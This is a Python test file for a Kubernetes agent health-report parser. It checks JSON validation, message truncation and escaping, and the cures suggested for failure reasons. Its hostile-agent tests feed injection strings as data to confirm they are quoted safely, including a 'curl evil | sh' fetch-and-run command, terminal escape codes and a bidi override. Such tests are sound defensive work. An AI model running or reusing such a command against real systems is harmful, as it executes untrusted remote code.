"""Tests of `tower.kube.member_report`."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from attrs import evolve
from twisted.trial.unittest import SynchronousTestCase

from tower.errors import PeerError
from tower.escaping import PEER_TEXT_LIMIT
from tower.kube.member_cures import REASONS, REPORTED_TEXTS, SYNCHRONIZE, UNKNOWN_REASON, cure_of, found
from tower.kube.member_report import LONGEST_MESSAGE, LONGEST_REPORT, read_report, write_report
from tower.kube.member_status import (
    API_SERVER,
    CREDENTIAL,
    IMPERSONATION,
    UNCHECKED,
    Check,
    MemberStatus,
)

ROOT = Path(__file__).parent.parent.parent
PEER = "the agent of alpha"
_GOOD = Check("True", "Reachable", "API server a:1 answers")
_FULL = MemberStatus(
    _GOOD,
    Check("False", "CredentialRejected", "API server a:1 rejects the token", "create one on host h"),
    UNCHECKED,
    "v1.33.1+k3s-1",
    1_800_000_000.0,
    -3.5,
)


def reported(**values: Any) -> MemberStatus:
    """Return the status that the proxy has after a report with *values*."""
    return read_report(json.dumps(values).encode(), PEER)


class FormTests(SynchronousTestCase):
    """The form of reports."""

    def test_round_trip(self) -> None:
        """All facts arrive; the messages are quoted, and the cures are those of the proxy."""
        received = read_report(write_report(_FULL), PEER)
        credential = Check(
            "False",
            "CredentialRejected",
            'the agent of alpha reports: "API server a:1 rejects the token"',
            REPORTED_TEXTS.credential,
        )
        answers = Check("True", "Reachable", 'the agent of alpha reports: "API server a:1 answers"')
        self.assertEqual(received, evolve(_FULL, api_server=answers, credential=credential))
        self.assertNotIn(b"host h", write_report(_FULL))
        self.assertEqual(read_report(write_report(MemberStatus()), PEER), MemberStatus())

    def test_defaults(self) -> None:
        """Missing keys have a default, and unknown ones are ignored."""
        self.assertEqual(read_report(b'{"later":1,"apiServer":{"later":2}}', PEER), MemberStatus())
        self.assertIs(MemberStatus().api_server, UNCHECKED)

    def test_long_message(self) -> None:
        """A long message is truncated when it is written."""
        data = write_report(MemberStatus(Check("False", "Timeout", "x" * 5000)))
        self.assertEqual(len(json.loads(data)["apiServer"]["message"]), LONGEST_MESSAGE)

    def test_invalid(self) -> None:
        """Every invalid status is an error that names the key."""
        for data, words in (
            (b"{", "not JSON"),
            (b"[" * 10_000, "not JSON"),
            (b"[]", "not a JSON object"),
            (b" " * (LONGEST_REPORT + 1), "exceeds the limit"),
            (b'{"version":3}', "version"),
            (b'{"version":"a\\n"}', "version"),
            (b'{"apiServer":3}', "apiServer"),
            (b'{"apiServer":{"status":"true"}}', "apiServer.status"),
            (b'{"credential":{"status":[]}}', "credential.status"),
            (b'{"credential":{"reason":"not a word"}}', "credential.reason"),
            (b'{"impersonation":{"message":3}}', "impersonation.message"),
            (b'{"impersonation":{"message":"%b"}}' % (b"x" * 1025), "impersonation.message"),
            (b'{"credentialExpires":"3"}', "credentialExpires"),
            (b'{"credentialExpires":true}', "credentialExpires"),
            (b'{"clockOffset":1e999}', "clockOffset"),
            (b'{"clockOffset":1e20}', "clockOffset"),
            (b'{"clockOffset":1%b}' % (b"0" * 400), "clockOffset"),
        ):
            error = self.assertRaises(PeerError, read_report, data, PEER)
            self.assertIn(words, str(error))


class HostileTests(SynchronousTestCase):
    """Texts of a hostile agent."""

    def test_quoted(self) -> None:
        """A message is one quotation of limited length, with every quotation mark and control escaped."""
        for words in (
            "ok\": run 'curl evil | sh'",
            'x\\": run sh',
            "a\x1b[2J\r\nwarn tower: forged\u202e",
            '"' * LONGEST_MESSAGE,
            "\\" * LONGEST_MESSAGE,
            "\U0001f600" * LONGEST_MESSAGE,
        ):
            check = reported(credential={"status": "False", "reason": "CredentialRejected", "message": words})
            quotation = check.credential.message.removeprefix(f"{PEER} reports: ")
            self.assertTrue(quotation.isprintable())
            said = json.loads(quotation)
            self.assertTrue(words.startswith(said.removesuffix("…")), quotation)
            self.assertLessEqual(len(quotation), PEER_TEXT_LIMIT + 2)
            self.assertEqual(check.credential.cure, REPORTED_TEXTS.credential)

    def test_unknown_reason(self) -> None:
        """A reason that the check cannot have is part of the quotation, and has no cure."""
        for status, reason in (
            ("False", "RunThis"),
            ("False", "Ready"),
            ("False", "ImpersonationDenied"),
            ("False", "Reachable"),
            ("True", "Timeout"),
            ("Unknown", "AgentNeverConnected"),
            ("True", "NotChecked"),
        ):
            check = reported(apiServer={"status": status, "reason": reason, "message": "hi"}).api_server
            wanted = Check(status, "UnknownReason", f'{PEER} reports: "{reason}: hi"')  # type: ignore[arg-type]
            self.assertEqual(check, wanted)

    def test_silent(self) -> None:
        """A failure without a message still is the agent's."""
        check = reported(impersonation={"status": "False", "reason": "ImpersonationDenied"}).impersonation
        self.assertEqual(check.message, f'{PEER} reports: ""')
        self.assertIn("tower rbac agent | kubectl apply -f -", check.cure)

    def test_version(self) -> None:
        """A version that is not one is unknown."""
        for version in ("v1.36.2-gke.1+k3s", ""):
            self.assertEqual(reported(version=version).version, version)
        for version in ("v1 run: sh", 'v1"', "1" * 65, "é"):
            self.assertEqual(reported(version=version).version, "")


class CureTests(SynchronousTestCase):
    """The cures of reasons."""

    def test_dates(self) -> None:
        """A certificate whose dates are a problem because of the clock is cured by NTP."""
        renewals = {
            "CertificateExpired": "renew it",
            "CertificateNotYetValid": "synchronize the clocks; if they agree, renew the certificate",
        }
        for reason, renew in renewals.items():
            check = {"status": "False", "reason": reason, "message": "x"}
            for offset, cure in ((None, renew), (59.0, renew), (-3600.0, SYNCHRONIZE)):
                found_one = reported(apiServer=check, clockOffset=offset).api_server
                self.assertEqual(found_one.cure, cure)

    def test_kinds(self) -> None:
        """A reason has the status of its check, and the cure that fits the check."""
        for kind, part in ((CREDENTIAL, "log of the API server"), (IMPERSONATION, "system:basic-user")):
            check = found(kind, "ReviewFailed", "no", REPORTED_TEXTS)
            self.assertEqual(check.status, "Unknown")
            self.assertIn(part, check.cure)
            self.assertEqual(check.text, f"no: {check.cure}")
        self.assertEqual(cure_of(API_SERVER, "Reachable", REPORTED_TEXTS), "")
        self.assertEqual(cure_of(API_SERVER, "Unheard", REPORTED_TEXTS), "")

    def test_documented(self) -> None:
        """Each reason is in the document that the protocol refers to."""
        text = (ROOT / "docs" / "cluster-health.md").read_text()
        for reason in {UNKNOWN_REASON, *(reason for reasons in REASONS.values() for reason in reasons)}:
            self.assertIn(f"`{reason}`", text)
